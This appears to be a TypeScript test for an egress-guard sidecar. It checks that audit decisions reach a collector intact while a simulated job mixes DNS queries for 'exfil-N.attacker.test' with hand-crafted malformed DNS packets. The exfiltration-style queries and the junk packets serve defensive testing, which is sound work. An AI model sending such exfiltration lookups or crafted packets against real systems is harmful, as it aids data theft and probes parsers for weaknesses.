/**
 * The audit trail reaches the collector whole: a sidecar in audit mode streams to a real collector while a
 * "job" sends garbage DNS packets between its queries to attacker names. Before partial acceptance, one junk
 * packet's event made the collector refuse its whole batch and the stream client drop it (up to 500
 * decisions of the same job). Every decision of the events file must be stored at the collector.
 */
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { startCollector, type Collector } from '../../collector/server.js';
import { startZoneServer, type ZoneServer } from '../helpers/dns-zone-server.js';
import { runProcess, startEgressGuard, type EgressGuardProcess } from '../helpers/egress-guard-process.js';

const TOKEN = 'keep-every-event';
const JOB = 'collector-keeps-every-event';
const dir = mkdtempSync(join(tmpdir(), 'eg-keep-'));
let collector: Collector | undefined;
let guard: EgressGuardProcess | undefined;
let zone: ZoneServer | undefined;

after(async () => {
  await guard?.stop();
  await collector?.close();
  await zone?.close();
  rmSync(dir, { recursive: true, force: true });
});

function sendUdp(port: number, packet: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const socket = dgram.createSocket('udp4');
    socket.send(packet, port, '127.0.0.1', () => {
      socket.close();
      resolve();
    });
  });
}

/** A query header claiming one question, followed by a label that runs off the end of the packet. */
const TRUNCATED = Buffer.from([0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 0x3f, 0x61, 0x62]);
/** A question whose name holds a dot and a NUL inside one label (no host name the policy could match). */
const ODD_LABEL = Buffer.concat([
  Buffer.from([0x56, 0x78, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 4]),
  Buffer.from('a.b\0'),
  Buffer.from([4]),
  Buffer.from('test'),
  Buffer.from([0, 0, 1, 0, 1]),
]);

test('audit mode: every decision in the events file is stored at the collector, junk DNS in between', async () => {
  collector = await startCollector({ listen: { host: '127.0.0.1', port: 0 }, db: join(dir, 'c.db'), token: TOKEN });
  zone = await startZoneServer({ 'allowed.test': [{ type: 'A', value: '203.0.113.7' }] });
  const eventsFile = join(dir, 'events.ndjson');
  guard = await startEgressGuard(['--dns-listen', '127.0.0.1:0'], {
    EGRESS_MODE: 'audit',
    EGRESS_ALLOWED_ENDPOINTS: 'allowed.test',
    EGRESS_DNS_UPSTREAM: zone.address,
    EGRESS_EVENTS_FILE: eventsFile,
    EGRESS_COLLECTOR_URL: `http://127.0.0.1:${collector.port}`,
    EGRESS_COLLECTOR_TOKEN: TOKEN,
    EGRESS_JOB_ID: JOB,
  });
  const dnsPort = (await guard.waitFor((l) => l.msg === 'listening' && l.listener === 'dns')).port as number;
  for (let i = 0; i < 8; i++) {
    await runProcess('dig', ['+tries=1', '+time=2', '-p', String(dnsPort), '@127.0.0.1', `exfil-${i}.attacker.test`, 'A']);
    await sendUdp(dnsPort, i % 2 === 0 ? TRUNCATED : ODD_LABEL);
    await runProcess('dig', ['+tries=1', '+time=2', '-p', String(dnsPort), '@127.0.0.1', 'allowed.test', 'A']);
  }
  await guard.waitFor((l) => l.event === 'decision' && l.reason === 'malformed-request');
  // SIGTERM: the stream delivers what is left before the process exits.
  assert.equal(await guard.stop(), 0);
  guard = undefined;

  const written = readFileSync(eventsFile, 'utf8')
    .split('\n')
    .filter((l) => l.includes('"event":"decision"'))
    .map((l) => JSON.parse(l) as { id: string; reason: string });
  assert.ok(
    written.some((e) => e.reason === 'malformed-request'),
    'junk packets made events',
  );
  assert.ok(written.length >= 24, `decisions written: ${written.length}`);
  const stored = new Set((await collector.store.jobEvents(JOB, 10_000)).filter((e) => e.event === 'decision').map((e) => e.id));
  const missing = written.filter((e) => !stored.has(e.id));
  assert.deepEqual(missing, [], 'decisions missing at the collector');
});
